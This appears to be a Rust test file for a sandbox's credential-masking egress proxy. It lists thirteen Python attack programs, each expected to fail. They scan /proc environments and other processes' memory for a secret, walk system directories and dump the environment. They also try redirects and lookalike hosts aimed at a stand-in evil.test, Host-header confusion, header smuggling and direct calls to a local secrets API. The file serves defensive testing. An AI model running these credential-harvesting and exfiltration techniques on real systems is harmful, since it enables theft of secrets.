//! Every way in which a program inside could get hold of a credential, or send it somewhere. They know it backwards, so that
//! none of them finds itself.

use crate::inside::Attack;

pub(crate) const ATTACKS: [Attack; 13] = [
    Attack {
        name: "the_environment_of_no_process_holds_the_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1].encode()
seen = 0
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "comm", "status", "maps", "mountinfo", "net/unix", "net/tcp"):
        try:
            seen += 1
            print("REACHED" if needle in open(f"/proc/{pid}/{name}", "rb").read() else "", end="")
        except OSError as error:
            pass
print("REACHED" if needle.decode() in str(os.environ) else f"looked at {seen}")
os.system("env; set; export")
"#,
        denied: "",
    },
    Attack {
        name: "no_file_holds_the_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1].encode()
seen = 0
for top in ("/workspace", "/home", "/tmp", "/etc", "/run", "/var", "/dev/shm", "/opt", "/root", "/srv", "/mnt"):
    for root, folders, files in os.walk(top):
        for name in files:
            path = os.path.join(root, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 22:
                    seen += 1
                    if needle in open(path, "rb").read():
                        print("REACHED", path)
            except OSError:
                pass
print("looked at", seen, "files;", os.path.exists("/var/secrets"), os.path.exists("/proc/keys") and open("/proc/keys").read())
"#,
        denied: "",
    },
    Attack {
        name: "the_memory_of_no_process_holds_the_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1].encode()
import subprocess
# A client of the same user that has just used it.
client = subprocess.Popen(["python3", "-c", '''
import urllib.request, time
page = urllib.request.urlopen("http://api.egress.internal/used").read()
# Something that can be found, so that the search is one.
decoy = bytearray("-".join(["decoy", "in", str(len(page) * 1000), "memory"]).encode())
print(decoy.decode(), flush=True)
time.sleep(60)
'''], stdout=subprocess.PIPE)
decoy, found = client.stdout.readline().strip(), False
looked = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                first, last = (int(part, 16) for part in line.split()[0].split("-"))
                if " r" in line and last - first < 1 << 28:
                    try:
                        memory.seek(first)
                        bytes = memory.read(last - first)
                        found = found or decoy in bytes
                        if needle in bytes:
                            print("REACHED", pid, line)
                    except (OSError, ValueError):
                        pass
            looked.append(pid)
    except OSError as error:
        print(pid, error)
client.kill()
assert found, "the search finds nothing at all"
print("looked into", looked)
"#,
        denied: "",
    },
    Attack {
        name: "an_error_page_that_shows_the_request_does_not_show_the_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
for method in ("GET", "POST", "TRACE", "OPTIONS"):
    answer = talk(f"{method} http://api.egress.internal/echo HTTP/1.1\r\nHost: api.egress.internal\r\nConnection: close\r\n\r\n")
    assert "you sent" in answer and "x-seen: Bearer" in answer, answer
    print("REACHED" if needle in answer else "masked", answer.count("*"))
"#,
        denied: "",
    },
    Attack {
        name: "another_spelling_of_the_secret_is_masked_too",
        program: r#"
import urllib.parse, re
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
for page in ("base64", "escaped"):
    body = get(f"http://api.egress.internal/{page}", host="api.egress.internal").split("\r\n\r\n", 1)[1]
    texts = [urllib.parse.unquote(body), body.replace("\\/", "/")]
    for word in re.findall(r"[A-Za-z0-9+/=]{16,}", body):
        for start in range(4):
            part = word[start:]
            texts.append(base64.b64decode(part[:len(part) // 4 * 4], validate=False).decode("latin-1"))
    print("REACHED" if any(needle[:20] in text or needle[-20:] in text for text in texts) else "masked")
"#,
        denied: "",
    },
    Attack {
        name: "a_secret_in_pieces_is_masked_too",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
answer = talk("GET http://api.egress.internal/drops HTTP/1.1\r\nHost: api.egress.internal\r\nConnection: close\r\n\r\n")
body = "".join(line for line in answer.split("\r\n\r\n", 1)[1].split("\r\n") if line and len(line) > 2)
print("REACHED" if needle in body or needle in answer or needle[:12] in body else "masked", answer)
"#,
        denied: "",
    },
    Attack {
        name: "a_redirect_carries_no_secret_away",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
answer = get("http://api.egress.internal/location", host="api.egress.internal")
print("REACHED" if needle in answer else "masked")
import urllib.request
for place in ("http://evil.test/echo", "http://api.test.evil.test/echo", "http://api.test/echo"):
    request = urllib.request.Request(f"http://api.egress.internal/redirect?{place}", headers={"Authorization": "Bearer placeholder"})
    try:
        body = urllib.request.urlopen(request).read().decode()
    except urllib.error.HTTPError as error:
        body = error.read().decode()
    print("REACHED" if needle in body else body)
"#,
        denied: "",
    },
    Attack {
        name: "a_compressed_answer_does_not_hide_the_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
for coding in ("gzip", "GZIP, br", "gzip;q=1.0, identity;q=0", "*"):
    answer = talk(f"GET http://api.egress.internal/packed HTTP/1.1\r\nHost: api.egress.internal\r\nAccept-Encoding: {coding}\r\nTE: gzip\r\nConnection: close, TE\r\n\r\n")
    unpacked = "".join(chr(ord(letter) ^ 0x80) for letter in answer if ord(letter) < 256)
    print("REACHED" if needle in answer or needle in unpacked else "masked")
"#,
        denied: "",
    },
    Attack {
        name: "a_host_that_looks_like_the_right_one_gets_no_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
for host in ("api.test.evil.test", "xapi.test", "api-test.test", "api.test.test", "evil.test"):
    for answer in (get(f"http://{host}/echo"),
                   through(secure(tunnel(f"{host}:443"), host), f"GET /echo HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")):
        assert "you sent" in answer, answer
        print("REACHED" if needle in answer else "nothing")
"#,
        denied: "",
    },
    Attack {
        name: "a_secret_does_not_go_in_plain_text_or_to_another_port",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
answers = [get("http://api.test/echo"), get("http://api.test:80/echo"), get("http://API.test./echo"),
           through(tunnel("api.test:80"), "GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"),
           through(secure(tunnel("api.test:443"), "api.test"), "GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"),
           through(secure(tunnel("api.test:8443"), "api.test"), "GET /echo HTTP/1.1\r\nHost: api.test:8443\r\nConnection: close\r\n\r\n")]
for answer in answers:
    assert "you sent" in answer, answer
    print("REACHED" if needle in answer else "nothing")
"#,
        denied: "",
    },
    Attack {
        name: "a_base_url_stands_for_its_host_alone",
        program: r#"
get("http://api.egress.internal/ATTACK", host="evil.test")
get("http://evil.test/ATTACK", host="api.egress.internal")
for host in ("x.api.egress.internal", "evil.egress.internal", "egress.internal", "api.egress.internal.evil.test", "api.egress.internal:8080", "api.egress.internal:443"):
    get(f"http://{host}/ATTACK")
get("http://api.egress.internal@evil.test/ATTACK", host="evil.test")
through(secure(tunnel("api.egress.internal:443"), "evil.test"), "GET /ATTACK HTTP/1.0\r\n\r\n")
through(tunnel("api.egress.internal:80"), "GET http://evil.test/ATTACK HTTP/1.1\r\nHost: evil.test\r\n\r\n")
through(tunnel("api.egress.internal:443"), "SSH-2.0-ATTACK\r\n")
"#,
        denied: "unknown virtual host",
    },
    Attack {
        name: "what_a_client_sends_in_the_place_of_the_secret_is_replaced",
        program: r#"
for more in ("Authorization: Bearer mine\r\n", "authorization: Basic bWluZQ==\r\nAUTHORIZATION: Bearer mine\r\n", "Connection: authorization\r\n",
             "Authorization: Bearer mine\r\nConnection: close, authorization\r\n", "Proxy-Authorization: Bearer mine\r\n"):
    answer = talk(f"GET http://api.egress.internal/echo HTTP/1.1\r\nHost: api.egress.internal\r\nConnection: close\r\n{more}\r\n").lower()
    assert "you sent" in answer, answer
    print("REACHED" if "mine" in answer or answer.count("authorization: ") != 1 else "replaced")
"#,
        denied: "",
    },
    Attack {
        name: "the_store_of_secrets_is_not_reached_from_inside",
        program: r#"
for url in ("http://127.0.0.1:$API/api/v1/secrets", "http://localhost:$API/api/v1/secrets/KEY", "http://api.egress.internal:$API/api/v1/secrets"):
    get(url)
direct("127.0.0.1", $API, data=b"GET /api/v1/secrets HTTP/1.0\r\n\r\n")
"#,
        denied: "not allowed",
    },
];
